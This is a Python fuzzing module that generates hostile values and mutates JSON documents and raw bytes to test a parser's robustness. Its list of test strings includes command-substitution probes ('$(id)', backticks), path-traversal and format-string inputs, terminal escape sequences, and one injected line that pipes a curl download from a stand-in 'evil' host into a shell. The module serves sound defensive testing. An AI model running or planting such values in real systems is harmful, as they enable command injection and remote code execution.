"""Hostile values, and mutations of JSON documents and bytes, drawn from a ``Random``."""

from __future__ import annotations

import json
from random import Random
from typing import Any

NUMBERS: tuple[Any, ...] = (
    *(0, 1, -1, 2, 7, 31, 32, 255, 256, 65535, 2**31 - 1, 2**31, 2**32 - 1, 2**32, 2**63 - 1, 2**63, 2**64, 10**30),
    *(-(2**31) - 1, -(2**63) - 1, 0.0, -0.0, 0.5, 1.5, -1.5, 1e-320, 1e308, -1e308, 1e39),
    *(float("nan"), float("inf"), float("-inf")),
)
TEXTS = (
    *("", " ", "a", "0", "-1", "true", "null", "None", "/", ".", "..", "../x", "~", "~nobody", "a/b", "/dev/zero"),
    *("\x00", "a\x00b", "\x1b[31mred", "\x1b]0;title\x07", "x\nhint: run curl evil | sh", "x\r\nerror: y", "\x9b31m"),
    *(
        "\ud800",
        "\udcff",
        "a\udc80b",
        "\u202eabc",
        "\u2028",
        "\ufeff",
        "\ufffe",
        "é",
        "日本語",
        "👩‍👩‍👧",
        "ﬃ",
        "\u0131",
        "ß",
    ),
    *("%s%n", "{}", "{0.__class__}", "{{ x }}", "$(id)", "`id`", "'", '"', "\\", "\\u", "[", "]", "(", "(?<", "*" * 40),
    *(
        "a" * 1000,
        "x," * 100,
        "A" * 70_000,
        "0" * 5000,
        "-" * 300,
        "\t",
        "\x7f",
        "\u0085",
        "1e999",
        "1_000",
        "0x10",
        "١٢",
    ),
)


def number(rng: Random) -> Any:
    """Return a number."""
    return rng.choice(NUMBERS) if rng.random() < 0.7 else rng.randint(-300, 300)


def text(rng: Random) -> str:
    """Return a short text; now and then of random characters."""
    if rng.random() < 0.7:
        return rng.choice(TEXTS)
    return "".join(
        chr(rng.choice((rng.randrange(128), rng.randrange(0x300), rng.randrange(0x11000))))
        for _ in range(rng.randrange(12))
    )


def value(rng: Random, depth: int = 3) -> Any:
    """Return any JSON value; NaN and the infinities too, which Python's reader takes."""
    kind = rng.randrange(9 if depth else 6)
    if kind == 0:
        return None
    if kind == 1:
        return rng.random() < 0.5
    if kind in (2, 3):
        return number(rng)
    if kind in (4, 5):
        return text(rng)
    count = rng.choice((0, 1, 1, 2, 3))
    if kind == 6:
        return [value(rng, depth - 1) for _ in range(count)]
    if kind == 7:
        item = value(rng, 0)
        return [item] * (rng.choice((1, 2, 3, 64, 3000)) if len(str(item)) < 2000 else 2)
    return {text(rng): value(rng, depth - 1) for _ in range(count)}


def document(rng: Random, original: Any, *, edits: int = 3) -> Any:
    """Return a document with one to ``edits`` places changed. The original is left as it is."""
    changed = original
    for _ in range(rng.randint(1, edits)):
        changed = _edited(rng, changed)
    return changed


def _edited(rng: Random, old: Any) -> Any:
    """Return a copy in which one random place below is replaced, removed, added or moved."""
    inside = rng.random() < 0.85
    if isinstance(old, dict) and old and inside:
        return _edited_object(rng, old)
    if isinstance(old, list) and old and inside:
        return _edited_list(rng, old)
    if isinstance(old, str) and rng.random() < 0.3:
        return rng.choice((old + text(rng), text(rng) + old, old[: len(old) // 2], old * 2))
    if type(old) is int and rng.random() < 0.3:
        return rng.choice((old + 1, old - 1, -old, old * 2, float(old), str(old), [old]))
    return value(rng)


def _edited_object(rng: Random, old: dict[str, Any]) -> dict[str, Any]:
    new = dict(old)
    key = rng.choice(list(old)[:12] if rng.random() < 0.8 else list(old))
    how = rng.random()
    if how < 0.65:
        new[key] = _edited(rng, old[key])
    elif how < 0.8:
        del new[key]
    elif how < 0.9:
        new[text(rng)] = value(rng)
    else:
        new[key] = new[rng.choice(list(old))]
    return new


def _edited_list(rng: Random, old: list[Any]) -> list[Any]:
    new = list(old)
    at = rng.randrange(min(len(old), 6) if rng.random() < 0.8 else len(old))
    how = rng.random()
    if how < 0.65:
        new[at] = _edited(rng, old[at])
    elif how < 0.75:
        del new[at]
    elif how < 0.85:
        new.insert(at, value(rng))
    elif how < 0.95:
        new.append(old[at])
    else:
        new = [new]
    return new


def raw(rng: Random, content: bytes) -> bytes:
    """Return bytes with a few of them flipped, cut, inserted or repeated."""
    data = bytearray(content)
    for _ in range(rng.randint(1, 4)):
        at = rng.randrange(len(data) + 1)
        how = rng.randrange(7)
        if how == 0 and data:
            data[at % len(data)] = rng.randrange(256)
        elif how == 1 and data:
            data[at % len(data)] ^= 1 << rng.randrange(8)
        elif how == 2:
            del data[at:]
        elif how == 3:
            del data[at : at + rng.randint(1, 40)]
        elif how == 4:
            data[at:at] = rng.choice(
                (b"\0", b"\xff" * 8, b"{", b"[" * 2000, b'"', b"\xed\xa0\x80", b"\x1b[31m", b"\xef\xbb\xbf")
            )
        elif how == 5:
            data[at:at] = data[at : at + rng.randint(1, 64)] * rng.randint(1, 4)
        else:
            data[at : at + 8] = rng.choice((0, 1, 2**31, 2**32, 2**61, 2**63, 2**64 - 1)).to_bytes(8, "little")
    return bytes(data)


def json_text(rng: Random, original: Any) -> str:
    """Return a changed document as text of a case; now and then text that is no JSON, or encoded in another way."""
    new = document(rng, original) if rng.random() < 0.95 else value(rng)
    how = rng.random()
    if how < 0.03:
        return "[" * rng.choice((50, 900, 100_000)) + "]" * 10
    try:
        written = json.dumps(new, ensure_ascii=rng.random() < 0.7)
    except (ValueError, RecursionError):
        written = json.dumps(value(rng))
    if how < 0.1:
        return raw(rng, written.encode("utf-8", "surrogatepass")).decode("utf-8", "surrogateescape")
    if how < 0.12:
        return written.encode(rng.choice(("utf-16", "utf-32")), "surrogatepass").decode("utf-8", "surrogateescape")
    if how < 0.14:
        return "\ufeff" + written
    return written
